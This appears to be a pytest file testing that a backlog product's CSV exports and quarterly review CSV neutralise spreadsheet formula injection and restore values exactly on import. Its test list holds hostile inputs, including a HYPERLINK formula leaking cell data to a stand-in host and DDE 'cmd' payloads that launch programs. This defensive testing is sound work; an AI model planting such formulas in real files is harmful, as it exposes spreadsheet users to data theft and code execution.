"""CSV formula injection: no CSV the product writes has a cell a spreadsheet would run (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from improvement.cli import main
from improvement.models import ItemFilter
from improvement.report import review_csv
from improvement.services import BacklogService
from improvement.spreadsheet import restore_cell, safe_cell
from improvement.transfer import parse_rows

TRIGGERS = "=+-@\t\r"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    "'=already quoted by someone",
]


def assert_no_formula(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in TRIGGERS, f"a formula cell: {cell!r}"
    return rows


@pytest.fixture
def service(sessions, offline_classifier) -> BacklogService:  # type: ignore[no-untyped-def]
    return BacklogService(sessions, classifier_provider=lambda: offline_classifier)


def test_cells_are_neutralised_and_restored_exactly() -> None:
    for value in [*FORMULAS, "''=two quotes", "plain", "it's = fine", "", "-"]:
        assert restore_cell(safe_cell(value)) == value
        neutral = safe_cell(value)
        assert not neutral or neutral[0] not in TRIGGERS
    assert safe_cell(-5.0) == -5.0  # numbers the product computes stay numbers


def test_backlog_export_and_review_csv_cannot_run_formulas(service: BacklogService, sessions, tmp_path: Path) -> None:
    for number, formula in enumerate(FORMULAS):
        result = service.log_problem(
            {
                "title": formula,
                "description": f"Parcels arrive late {number} {formula}",
                "customer_story": formula,
                "touchpoint": formula,
                "root_cause": formula,
                "quarter": "2026-Q4",
            },
            actor="ana",
        )
        service.update_item(result.improvement_id, {"owner": formula, "target": formula}, actor="ana")
    out = tmp_path / "backlog.csv"
    assert main(["export", "--format", "csv", "-o", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    rows = assert_no_formula(text)
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
    # Importing the export gives back exactly what was typed (the quote is the export's, not the data's).
    restored = parse_rows(text, "csv")
    stored = service.list_items(ItemFilter(), limit=100).items
    assert len(stored) == len(FORMULAS)
    assert sorted(r["title"] for r in restored) == sorted(i.title for i in stored)
    assert sorted(r["owner"] for r in restored) == sorted(i.owner or "" for i in stored)
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"x")' in {r["title"] for r in restored}

    # The review's CSV is the quarter's items, one row each: the owners and titles are neutralised there too.
    rows = assert_no_formula(review_csv(sessions, "2026-Q4"))
    header, body = rows[0], rows[1:]
    owners = {row[header.index("owner")] for row in body}
    assert owners == {safe_cell(i.owner) for i in stored}
    assert safe_cell('=HYPERLINK("http://evil.example/?leak="&A1,"x")') in {row[header.index("title")] for row in body}
